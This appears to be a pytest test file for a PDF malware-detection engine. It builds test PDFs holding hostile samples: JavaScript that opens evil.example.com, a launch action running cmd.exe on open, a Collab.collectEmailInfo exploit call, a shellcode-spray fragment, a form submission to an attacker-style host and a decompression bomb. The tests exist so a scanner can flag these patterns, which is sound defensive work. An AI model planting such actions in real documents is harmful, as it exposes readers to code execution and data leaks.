"""The engine of PDF: what acts, where it leads, what is packed; through encryption, broken files and bombs."""

import io
import time
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String

from mailock.core.evidence.filetype import Family
from mailock.core.evidence.finding import Confidence, Severity
from mailock.core.evidence.report import Why
from mailock.engines.pdf.engine import Pdf
from tests.parts.said import Said, look

ENGINE = Pdf()
LINK = "https://shop.example.com/a"


def written(change: Callable[[pikepdf.Pdf], None] | None = None, **how: object) -> bytes:
    """A PDF of one empty page, changed."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    if change is not None:
        change(pdf)
    target = io.BytesIO()
    pdf.save(target, **{"object_stream_mode": pikepdf.ObjectStreamMode.generate, **how})
    return target.getvalue()


def seen(change: Callable[[pikepdf.Pdf], None] | None = None, **how: object) -> Said:
    """What is said of a PDF of one page, changed."""
    return look(ENGINE, written(change, **how), Family.PDF)


def annotated(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    """Puts a link with an action on the page."""

    def change(pdf: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(note)]))

    return change


def opening(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    """Has an action happen when the document is opened."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return change


def script(source: str) -> Dictionary:
    """An action that runs JavaScript."""
    return Dictionary(S=Name.JavaScript, JS=String(source))


def test_a_link_is_a_note() -> None:
    said = seen(annotated(Dictionary(S=Name.URI, URI=String(LINK))))
    assert said.urls == [LINK]
    assert said.kinds == {"pdf.link"}
    assert said.worst("pdf.link")[0] is Severity.NOTE
    assert said.unfinished is None


def test_an_empty_document_and_a_place_to_open_it_at_are_nothing() -> None:
    assert seen().kinds == set()
    assert seen(opening(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))).kinds == set()


@pytest.mark.parametrize(
    ("source", "kind", "level"),
    [
        ("app.alert('hello')", "pdf.javascript", (Severity.SUSPICIOUS, Confidence.LOW)),
        ("app.launchURL('http://evil.example.com/', true)", "pdf.javascript", (Severity.SUSPICIOUS, Confidence.MEDIUM)),
        ("this.exportDataObject({cName: 'a', nLaunch: 2})", "pdf.javascript", (Severity.MALICIOUS, Confidence.HIGH)),
        ("Collab.collectEmailInfo({msg: x})", "pdf.exploit", (Severity.MALICIOUS, Confidence.MEDIUM)),
        ("x = unescape('%u9090%u9090')", "pdf.exploit", (Severity.MALICIOUS, Confidence.MEDIUM)),
        ("eval(String.fromCharCode(1))" + " " * 400, "pdf.javascript", (Severity.SUSPICIOUS, Confidence.MEDIUM)),
    ],
)
def test_javascript_is_judged_by_what_it_does(source: str, kind: str, level: tuple[Severity, Confidence]) -> None:
    said = seen(opening(script(source)))
    assert said.worst(kind) == level
    assert "pdf.auto_action" in said.kinds


def test_javascript_is_found_wherever_it_hangs_and_taken_out() -> None:
    def named(pdf: pikepdf.Pdf) -> None:
        stream = Stream(pdf, b"app.alert('from the names of the document')")
        action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=stream))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))

    def unreferenced(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Odd = pdf.make_indirect(Array([Array([Array([script("app.alert('deep in arrays')")])])]))

    for change in (named, unreferenced):
        said = seen(change)
        assert "pdf.javascript" in said.kinds
        assert [child.untrusted_name for child in said.children] == ["script.js"]


def test_javascript_in_wide_letters_is_read() -> None:
    def wide(pdf: pikepdf.Pdf) -> None:
        text = b"\xfe\xff" + "app.launchURL('http://evil.example.com/')".encode("utf-16-be")
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pikepdf.String(text))

    assert "http://evil.example.com/" in seen(wide).urls


def test_launches_are_malicious_where_they_start_a_shell() -> None:
    shell = Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    assert seen(opening(shell)).worst("pdf.launch") == (Severity.MALICIOUS, Confidence.HIGH)
    other = Dictionary(S=Name.Launch, F=String("notes.txt"))
    assert seen(annotated(other)).worst("pdf.launch") == (Severity.SUSPICIOUS, Confidence.MEDIUM)


@pytest.mark.parametrize(
    ("action", "kind"),
    [
        (Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example.com/s"))), "pdf.submit"),
        (Dictionary(S=Name.GoToR, F=String("\\\\192.0.2.1\\s\\a.pdf")), "pdf.remote"),
        (Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf"))), "pdf.remote"),
        (Dictionary(S=Name.ImportData, F=String("\\\\192.0.2.1\\s\\a.fdf")), "pdf.import"),
    ],
)
def test_what_reaches_out_is_told(action: Dictionary, kind: str) -> None:
    assert seen(annotated(action)).worst(kind)[0] is Severity.SUSPICIOUS


def test_packed_files_are_taken_out() -> None:
    def packed(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["a.exe"] = b"MZ" + bytes(500)

    said = seen(packed)
    assert [(child.untrusted_name, child.content) for child in said.children] == [("a.exe", b"MZ" + bytes(500))]
    assert said.worst("pdf.embedded")[0] is Severity.NOTE


def test_forms_in_xml_and_media() -> None:
    def form(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(XFA=Stream(pdf, b"<xdp><script>x()</script></xdp>"))
        pdf.Root.Media = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia))

    said = seen(form)
    assert said.worst("pdf.xfa")[0] is Severity.SUSPICIOUS
    assert said.worst("pdf.media")[0] is Severity.SUSPICIOUS


def test_links_that_are_only_written_are_found() -> None:
    def text(pdf: pikepdf.Pdf) -> None:
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F1=font))
        pdf.pages[0].obj.Contents = Stream(pdf, b"BT /F1 8 Tf 10 100 Td (see www.evil.example.com/x) Tj ET")

    assert seen(text).urls == ["http://www.evil.example.com/x"]


def test_an_empty_password_and_one_of_the_mail_open_a_document() -> None:
    nobody = seen(opening(script("app.alert(1)")), encryption=pikepdf.Encryption(owner="o", user=""))
    assert {"pdf.encrypted", "pdf.javascript"} <= nobody.kinds
    locked = written(opening(script("app.alert(1)")), encryption=pikepdf.Encryption(owner="o", user="sesame"))
    told = look(ENGINE, locked, Family.PDF, words=("open", "sesame"))
    assert {"pdf.encrypted", "pdf.javascript"} <= told.kinds
    silent = look(ENGINE, locked, Family.PDF)
    assert silent.unfinished is not None
    assert silent.unfinished.why is Why.ENCRYPTED


def test_names_in_hexadecimal_are_told() -> None:
    text = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>>>\nendobj\n"
    )
    text += b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
    text += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    said = look(ENGINE, text + b"trailer<</Root 1 0 R>>\n%%EOF", Family.PDF)
    assert {"pdf.hidden_name", "pdf.javascript", "pdf.broken"} <= said.kinds


def test_what_cannot_be_opened_is_read_by_its_octets() -> None:
    said = look(ENGINE, b"%PDF-1.4\n<</S/JavaScript/JS(x)/A<</URI (http://evil.example.com/)>>", Family.PDF)
    assert said.unfinished is not None
    assert said.unfinished.why is Why.UNREADABLE
    assert "<" not in said.unfinished.detail
    assert said.urls == ["http://evil.example.com/"]
    assert "pdf.disagreement" in said.kinds


def test_a_program_behind_the_document_is_taken_out() -> None:
    said = look(ENGINE, written() + b"PK\x03\x04" + bytes(3000), Family.PDF)
    assert said.worst("pdf.appended")[0] is Severity.SUSPICIOUS
    assert said.children[0].content.startswith(b"PK\x03\x04")


def test_bombs_end_within_the_budget() -> None:
    def bomb(pdf: pikepdf.Pdf) -> None:
        stream = Stream(pdf, zlib.compress(bytes(300 << 20), 9))
        stream.Filter = Name.FlateDecode
        spec = Dictionary(Type=Name.Filespec, F=String("a"), EF=Dictionary(F=stream))
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), pdf.make_indirect(spec)])))

    began = time.process_time()
    said = seen(bomb, compress_streams=False)
    assert said.unfinished is not None
    assert said.unfinished.why is Why.TOO_COSTLY
    assert time.process_time() - began < 20


def test_objects_within_each_other_and_in_circles_end() -> None:
    def deep(pdf: pikepdf.Pdf) -> None:
        inner = Array([])
        for _ in range(200):
            inner = Array([inner])
        pdf.Root.Deep = inner
        circle = pdf.make_indirect(Dictionary())
        circle.Self = circle
        pdf.Root.Circle = circle

    assert seen(deep).unfinished is None


@pytest.mark.parametrize(
    "content", [b"", b"%PDF-", b"%PDF-1.7\n" + b"<<" * 50_000, b"%PDF-1.7\n" + b"[" * 50_000, b"%FDF-1.2\n"]
)
def test_nonsense_is_unreadable(content: bytes) -> None:
    began = time.process_time()
    said = look(ENGINE, content, Family.PDF)
    assert said.unfinished is not None
    assert said.unfinished.why is Why.UNREADABLE
    assert time.process_time() - began < 15
